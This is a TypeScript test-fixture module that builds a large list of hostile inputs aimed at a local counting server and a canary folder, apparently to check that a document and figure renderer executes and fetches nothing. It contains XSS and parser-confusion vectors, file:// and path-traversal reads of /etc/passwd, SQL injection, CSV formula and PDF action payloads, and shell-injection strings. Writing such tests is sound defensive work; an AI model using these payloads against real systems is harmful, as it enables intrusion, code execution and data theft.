/**
 * HTML that tries to run something, or to reach `address`: over a hundred pieces. Each is a
 * document for the printer and a text for a figure.
 */
export function hostilePieces(address: string): readonly string[] {
  const port = new URL(address).port;
  const addresses = [
    `${address}/x`,
    `//127.0.0.1:${port}/x`,
    `http://localhost:${port}/x`,
    `ws://127.0.0.1:${port}/x`,
  ];
  const pieces = addresses.flatMap((to) => [...fetching(to), ...going(to)]);
  return [...pieces, `<iframe src="file:///etc/passwd"></iframe>`, `<img src="file:///etc/hostname">`];
}

/** Markup that a browser would fetch something for as soon as it stands on a page. */
const fetching = (to: string): string[] => [
  `<script src="${to}"></script>`,
  `<script>fetch("${to}");new WebSocket("${to}");navigator.sendBeacon("${to}")</script>`,
  `<img src="${to}">`,
  `<img src="x" onerror="new Image().src='${to}'">`,
  `<img srcset="${to} 2x">`,
  `<picture><source srcset="${to}"><img></picture>`,
  `<link rel="stylesheet" href="${to}">`,
  `<link rel="prefetch" href="${to}">`,
  `<link rel="preload" as="image" href="${to}">`,
  `<link rel="modulepreload" href="${to}">`,
  `<link rel="prerender" href="${to}">`,
  `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`,
  `<link rel="icon" href="${to}"><link rel="manifest" href="${to}">`,
  `<iframe src="${to}"></iframe>`,
  `<object data="${to}"></object>`,
  `<embed src="${to}">`,
  `<video src="${to}" autoplay></video><audio src="${to}" autoplay></audio>`,
  `<video poster="${to}"></video>`,
  `<style>@import "${to}";</style>`,
  `<style>@font-face{font-family:x;src:url(${to})}p{font-family:x}</style><p>x</p>`,
  `<p style="background:url(${to});list-style-image:url(${to});cursor:url(${to}),auto">x</p>`,
  `<svg><image href="${to}"/><use href="${to}#a"/><script href="${to}"/></svg>`,
  `<svg><foreignObject><img src="${to}"></foreignObject></svg>`,
];

/** Markup that would take the reader, or what the reader writes, elsewhere. */
const going = (to: string): string[] => [
  `<iframe srcdoc="<img src='${to}'><script>parent.location='${to}'</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${to}">`,
  `<base href="${to}"><img src="y">`,
  `<body onload="location='${to}'">`,
  `<input autofocus onfocus="location='${to}'">`,
  `<details open ontoggle="location='${to}'"><summary>x</summary></details>`,
  `<form action="${to}" id="f"><button autofocus>x</button></form>`,
];

/** What a payload that got its way would leave: the text of the page, its title and a property of its window. */
export const TRACE = "RAN-RAN";

/** Leaves the {@link TRACE}, which does not stand in it; no digit, so that it may be a city's name. */
const RUN = "globalThis.ran=document.title=document.body.textContent=['RAN','RAN'].join('-')";

/** What payloads are aimed at. */
export interface Targets {
  /** A server that counts connections, by its address. */
  readonly address: string;
  /** A folder without a digit in its path, with files that say something which stands in no payload. */
  readonly folder: string;
}

/** A text for a page to say in the place of a name, or behind the first word of one. */
export interface Payload {
  readonly text: string;
  /** Whether it says nothing beside other words: `__proto__`. */
  readonly isWhole: boolean;
}

/** Over two hundred texts, all different, that something between a page and a reader could take for more than a text. */
export function hostilePayloads(targets: Targets): readonly Payload[] {
  const said = [
    ...scripts(),
    ...handlers(),
    ...files(targets.folder),
    ...fetching(`${targets.address}/name`),
    ...going(targets.address.replace("127.0.0.1", "localhost")),
    ...styles(targets),
    ...parsersDisagree(),
    ...encoded(),
    ...templates(),
    ...unseen(),
    ...otherFormats(targets),
  ].map((text) => ({ text, isWhole: false }));
  const whole = NAMES_OF_PROTOTYPES.map((text) => ({ text, isWhole: true }));
  const known = new Map([...said, ...whole].map((payload) => [payload.text, payload]));
  return [...known.values()];
}

const scripts = (): string[] => [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title></style></textarea><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script/x>`,
  `<script type=module>${RUN}</script>`,
  `<script type="application/json">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<svg><animate onbegin="${RUN}" attributeName="x"></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<a href="java&Tab;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:msgbox(document)">x</a>`,
  `<iframe src="javascript:parent.eval('${RUN.replaceAll("'", "&quot;")}')"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN.replace("globalThis", "top")}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload='${RUN}'>">`,
  `<form><button formaction="javascript:${RUN}" autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:/${RUN}//">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `';${RUN};//`,
  `";${RUN};//`,
  "`;" + RUN + ";//",
  `\\";${RUN};//`,
  `\u2028${RUN}\u2029`,
];

const handlers = (): string[] => [
  `<body onload="${RUN}">`,
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN.replaceAll("'", "`")}'>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${RUN}">`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN.replaceAll("'", "`")}' autofocus x='`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video onerror="${RUN}"><source src=x></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<style onload="${RUN}"></style>`,
  `<link rel=stylesheet href="data:text/css," onload="${RUN}">`,
  `<p style="animation:x" onanimationstart="${RUN}">x</p>`,
  `<dialog open onbeforetoggle="${RUN}">x</dialog>`,
  `<object data=x onerror="${RUN}"></object>`,
  `<x contenteditable onbeforeinput="${RUN}" tabindex=0 autofocus onfocus="${RUN}">x</x>`,
];

/** Each would show what stands in a file. */
const files = (folder: string): string[] => [
  `<iframe src="file://${folder}/canary.txt"></iframe>`,
  `<object data="file://${folder}/canary.txt"></object>`,
  `<embed src="file://${folder}/canary.html">`,
  `<img src="file://${folder}/canary.svg">`,
  `<link rel="stylesheet" href="file://${folder}/canary.css">`,
  `<style>@import "file://${folder}/canary.css";</style>`,
  `<style>@import url(file://${folder}/canary.css) print;</style>`,
  `<script src="file://${folder}/canary.js"></script>`,
  `<style>@font-face{font-family:c;src:url(file://${folder}/canary.ttf)}*{font-family:c}</style>`,
  `<svg><use href="file://${folder}/canary.svg#c"/></svg>`,
  `<svg><image href="file://${folder}/canary.svg"/></svg>`,
  `<!DOCTYPE x [<!ENTITY c SYSTEM "file://${folder}/canary.txt">]>&c;`,
  `<?xml-stylesheet href="file://${folder}/canary.css"?>`,
  `<xi:include href="file://${folder}/canary.txt" parse="text"/>`,
  `{% include "file://${folder}/canary.txt" %}`,
  `{% render "../../../..${folder}/canary" %}`,
  `file://${folder}/canary.txt`,
  `${"../".repeat(12)}${folder.slice(1)}/canary.txt`,
  `..\\..\\..\\windows\\win.ini`,
  `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
  `....//....//etc/passwd`,
  `/etc/passwd`,
  `'); select * from read_text('${folder}/canary.txt'); --`,
];

const styles = ({ address, folder }: Targets): string[] => [
  `<style>body::after{content:"${TRACE.replace("-", '" "-" "')}"}</style>`,
  `<style>body{display:none}</style>`,
  `</style><style>@page{size:1px 1px}</style>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(${address}/x.htc);-moz-binding:url(${address}/x.xml#x)">x</p>`,
  `<style>p::after{content:attr(data-figure url);background:image-set("${address}/x.png" 1x)}</style>`,
  `<style>input[value^="a"]{background:url(${address}/a)}</style>`,
  `<style>@namespace url(${address}/n);@document url(${address}/d){*{color:red}}</style>`,
  `<p style="background:url('file://${folder}/canary.svg')">x</p>`,
  `<p style="position:fixed;inset:0;background:#fff;z-index:9999">x</p>`,
  `<svg><style>@import '${address}/svg.css';</style></svg>`,
  `<svg><filter id=f><feImage href="${address}/fe.png"/></filter></svg>`,
  `<svg><rect fill="url(${address}/paint.svg#p)" mask="url(${address}/m.svg#m)" width=9 height=9 /></svg>`,
  `<table background="${address}/bg"><tr><td background="${address}/bg">x</td></tr></table>`,
  `<link rel="preload" as="font" crossorigin href="${address}/f.woff2">`,
  `<link rel="alternate stylesheet" href="${address}/alt.css">`,
  `<a ping="${address}/ping" href="#x">x</a>`,
  `<input type=image src="${address}/i"><track src="${address}/t"><applet archive="${address}/j">`,
  `<portal src="${address}/p"></portal><fencedframe src="${address}/p"></fencedframe>`,
  `<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${address}/r">`,
  `<meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">`,
  `<script type="speculationrules">{"prerender":[{"urls":["${address}/s"]}]}</script>`,
  `<script type="importmap">{"imports":{"a":"${address}/im"}}</script>`,
];

/** Read one way by a parser that checks, and another by the one that shows. */
const parsersDisagree = (): string[] => [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><foreignObject><p></p><style><b title="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<table><td><a><table></td></table><img src=x onerror=${RUN}>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php echo "<img src=x onerror=${RUN}>" ?>`,
  `<%= "<img src=x onerror=${RUN}>" %>`,
  `<a href=x title=\`onmouseover=${RUN}\`>`,
  `<img src=x onerror=${RUN} `,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml>`,
];

/** Harmless until somebody decodes it once more. */
const encoded = (): string[] => [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&#0000060script&#62${RUN}`,
  `%3Cscript%3E${encodeURIComponent(RUN)}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `¼script¾${RUN}¼/script¾`,
  `ŉ<ſcript>${RUN}</ſcript>`,
  `&nbsp;&shy;&zwj;&rlm;&NewLine;&NotEqualTilde;`,
];

const templates = (): string[] => [
  `{{ office.name }}{{ figures }}`,
  `{{ "p10_name" | constant }}`,
  `{% raw %}{% endraw %}{% comment %}`,
  `{% for i in (1..9999999) %}{{ i }}{% endfor %}`,
  `{{ constructor.constructor("${RUN}")() }}`,
  "${" + RUN + "} #{" + RUN + "} <%- x %> [[${x}]] @(1+1)",
  `datum.constructor.constructor("${RUN}")()`,
  `signal('rows') data('rows') datum['usd'] @rows %rows`,
  `{"signal": "${RUN}"}`,
  `{"expr": "datum.usd"} {"url": "file:///etc/passwd"}`,
  `$& $' $1 $<name> $$`,
  `%s %d %n %x {0} {name}`,
  `figure:1 data-figure="national:1" national:1`,
];

/** Direction marks, joiners, controls, halves of characters: seen by nobody, or all over the line. */
const unseen = (): string[] => [
  "\u202egnp.exe\u202c",
  "\u2066\u2067abc\u2069\u2069",
  "\u200f\u200ertl\u061c",
  "zero\u200bwidth\u200c\u200d\ufeffjoin\u2060er",
  "soft\u00adhyphen\u034f\u115f\u3164",
  "combi\u0301\u0302\u0303\u0304\u0305\u0306\u0307ning",
  "Z\u0335\u0489".repeat(12),
  "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 family",
  "half\ud800of a pair",
  "other\udc00half",
  "not\ufffea\uffffcharacter",
  "tag\u{e0041}\u{e0042}s",
  "Арizona Раyрal",
  "مدينة תל",
  "nul\u0000byte",
  "bell\u0007back\u0008space\u007f",
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u001b]8;;http://example.com\u0007link\u001b]8;;\u0007",
  "\u001b[2J\u001b[1;1H\u001bc",
  "\u009b31mred\u009d0;title\u009c",
  "vertical\u000btab\u000cfeed\u0085next",
  "line\u2028separator\u2029",
  "carriage\rreturn\r\nSet-Cookie: a=b",
];

/** What files of other kinds would take for a part of their own syntax. */
const otherFormats = ({ address, folder }: Targets): string[] => [
  `=HYPERLINK("${address}/csv","x")`,
  `=cmd|' /C calc'!A`,
  `+SUM(A1:A9)`,
  `-2+3+cmd|' /C calc'!A`,
  `@SUM(1+1)*cmd|' /C calc'!A`,
  `=IMPORTXML("file://${folder}/canary.txt")`,
  `"quoted","fields",`,
  `'; drop table city_salaries; --`,
  `' or '1'='1`,
  `"); attach 'x' as y; --`,
  `\\'; copy records to '/tmp/x'; --`,
  `) >> endobj << /S /JavaScript /JS (app.alert(1)) >>`,
  `\\) /OpenAction << /S /Launch /F (calc) >>`,
  `\\051 \\( ( (( /AA << /O << /S /URI /URI (${address}/pdf) >> >>`,
  `%%EOF startxref 0 trailer <<>>`,
  `endstream endobj`,
  `<</S/SubmitForm/F(${address}/form)>>`,
  `þÿ\u0000<\u0000<`,
  `[x](javascript:${RUN}) ![x](${address}/md)`,
  `# heading | a | b |`,
  "```html <img src=x>",
  `${address}/bare-address`,
  `http://user:password@localhost/ mailto:x@example.com?subject=x`,
  `//localhost/share \\\\localhost\\share`,
  `"}],"figures":[],"x":[{"`,
  `x\\`,
  `$(touch ${folder}/ran) \`touch ${folder}/ran\` ; touch ${folder}/ran | cat & exit`,
  `!!js/function "${RUN}"`,
  `W${"W".repeat(299)}`,
  `${"long words of a name ".repeat(30)}end`,
  `${"<b>".repeat(60)}deep`,
  `&${"amp;".repeat(80)}`,
];

const NAMES_OF_PROTOTYPES = [
  "__proto__",
  "constructor",
  "Constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "valueOf",
  "then",
  "length",
  "NaN",
  "null",
  "undefined",
  "true",
  "Infinity",
];
